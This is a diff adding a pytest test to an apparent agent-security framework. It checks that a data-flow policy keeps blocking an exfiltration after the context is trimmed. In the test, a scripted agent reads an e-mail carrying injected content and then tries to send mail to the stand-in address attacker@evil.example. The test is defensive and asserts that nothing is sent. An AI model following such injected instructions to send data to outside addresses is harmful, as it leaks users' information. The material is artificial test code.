@@ -370,3 +370,43 @@ def test_bad_policies_are_refused_before_anything_runs() -> None:
         DataFlowPolicy(plan="always")  # type: ignore[arg-type]
     with pytest.raises(UserError, match="security must be a SecurityConfig"):
         Agent("a", model=ScriptedModel(["x"]), security=DataFlowPolicy())  # type: ignore[arg-type]
+
+
+@tool(side_effect_class="read_only")
+def read_long_mail() -> str:
+    """Read a long e-mail."""
+    return INJECTED_MAIL + "\n" + "Minutes of the meeting follow. " * 120
+
+
+@tool(side_effect_class="read_only")
+def weather(day: int) -> str:
+    """The forecast."""
+    return f"Day {day}: sunny. " * 40
+
+
+async def test_the_ledger_outlives_context_compaction() -> None:
+    # covers G-90: the trimmed e-mail is gone from the request, not from the ledger
+    from bastion.context import ContextConfig
+
+    calls = [
+        Call("read_long_mail", {}, id="r1"),
+        *(Call("weather", {"day": d}, id=f"w{d}") for d in range(4)),
+        send("attacker@evil.example"),
+    ]
+    model = ScriptedModel([*(Turn(tool_calls=[c]) for c in calls), "done"])
+    policy = DataFlowPolicy(mode="enforce", sources={"read_long_mail": Source(kind="email")})
+    agent = Agent(
+        "mailer",
+        model=model,
+        tools=[read_long_mail, weather, send_email],
+        security=SecurityConfig(dataflow=policy),
+        context=ContextConfig(
+            strategy="trim", max_context_tokens=1_000, reserve_output_tokens=0, keep_last=1
+        ),
+    )
+    result = await agent.run("Tell me the weather, then mail bob@corp.example.")
+    last_request = model.requests[-1].messages
+    assert all(getattr(m, "tool_call_id", None) != "r1" for m in last_request)  # trimmed
+    assert sent == []
+    [violation] = ledger(result).violations
+    assert violation.sources == ("tool:read_long_mail",)
